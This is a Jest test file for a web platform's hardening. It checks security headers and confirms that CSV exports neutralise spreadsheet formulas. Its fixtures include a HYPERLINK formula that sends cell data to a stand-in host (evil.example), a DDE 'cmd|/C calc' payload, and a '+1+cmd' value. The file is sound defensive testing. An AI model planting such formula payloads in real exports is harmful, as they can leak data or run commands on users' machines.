/**
 * Web hardening (issue 8 item 6): security headers on every page and API answer (helmet: a
 * Content-Security-Policy without inline script or style, frame-ancestors 'none', nosniff,
 * Referrer-Policy), and CSV exports that cannot carry a spreadsheet formula: a company or device
 * name like =HYPERLINK(…) comes out prefixed with ' in the scorecard CSV and the device-import CSV.
 */
import { startTestPlatform, type TestPlatform } from '../support/platform';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")';

describe('web security: headers and CSV exports', () => {
  let tp: TestPlatform;

  beforeAll(async () => {
    tp = await startTestPlatform();
  }, 180_000);
  afterAll(async () => {
    await tp?.close();
  });

  const expectHardened = (headers: Headers, path: string) => {
    const csp = headers.get('content-security-policy') ?? '';
    expect({ path, csp }).toEqual({ path, csp: expect.stringContaining("script-src 'self'") });
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("script-src-attr 'none'");
    expect(csp).toContain("object-src 'none'");
    expect(csp).not.toContain('upgrade-insecure-requests');
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('referrer-policy')).toBe('no-referrer');
    expect(headers.get('x-frame-options')).toBe('DENY');
    expect(headers.get('x-powered-by')).toBeNull();
  };

  it.each(['/dashboard/', '/history/', '/parking/', '/supervision/', '/duty/', '/board/', '/vote/', '/complaints/', '/complaint-desk/', '/fund/', '/dashboard/app.js', '/health', '/metrics', '/api/v1/communities', '/api/v1/no-such-route'])(
    'sends the security headers on %s',
    async (path) => {
      const res = await fetch(`${tp.httpUrl}${path}`, { headers: { authorization: `Bearer ${tp.token}` } });
      await res.arrayBuffer();
      expectHardened(res.headers, path);
      if (path.endsWith('/')) expect(res.headers.get('content-security-policy')).toContain("style-src 'self';");
    },
  );

  it('sends them on refused API calls too, and lets only the API docs page use inline styles', async () => {
    const anonymous = await fetch(`${tp.httpUrl}/api/v1/communities`);
    expect(anonymous.status).toBe(401);
    expectHardened(anonymous.headers, 'anonymous');
    const docs = await fetch(`${tp.httpUrl}/api/docs`);
    await docs.arrayBuffer();
    expectHardened(docs.headers, '/api/docs');
    expect(docs.headers.get('content-security-policy')).toContain("style-src 'self' 'unsafe-inline'");
  });

  it('neutralises a company name that is a formula in the scorecard CSV', async () => {
    const community = await tp.createCommunity({ name: '@SUM(1+1)*cmd|"/C calc"!A0' });
    const company = await tp.api('POST', '/api/v1/property-companies', { name: FORMULA, creditCode: '91420700MA4900077T' });
    expect(company.status).toBe(201);
    expect((await tp.api('POST', `/api/v1/property-companies/${company.body.id}/communities`, { communityIds: [community.id] })).status).toBe(201);
    const res = await fetch(`${tp.httpUrl}/api/v1/statistics/companies?from=2026-01-01T00:00:00Z&to=2026-01-31T00:00:00Z&format=csv`, { headers: { authorization: `Bearer ${tp.token}` } });
    expect(res.status).toBe(200);
    const text = await res.text();
    expect(text).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('neutralises a device name that is a formula in the device-import result CSV', async () => {
    const community = await tp.createCommunity();
    const res = await fetch(`${tp.httpUrl}/api/v1/devices/import?format=csv&communityId=${community.id}`, {
      method: 'POST',
      headers: { 'Content-Type': 'text/csv', Authorization: `Bearer ${tp.token}` },
      body: `kind,subtype,name\ngate,,"${FORMULA.replace(/"/g, '""')}"\ngate,,+1+cmd\n`,
    });
    expect(res.status).toBe(200);
    const lines = (await res.text()).trim().split('\n');
    expect(lines[1]).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
    expect(lines[2]).toContain(",'+1+cmd,");
    // The device itself keeps its name as given: only the spreadsheet copy is neutralised.
    const id = lines[1].split(',')[2];
    expect((await tp.api('GET', `/api/v1/devices/${id}`)).body.name).toBe(FORMULA);
  });
});
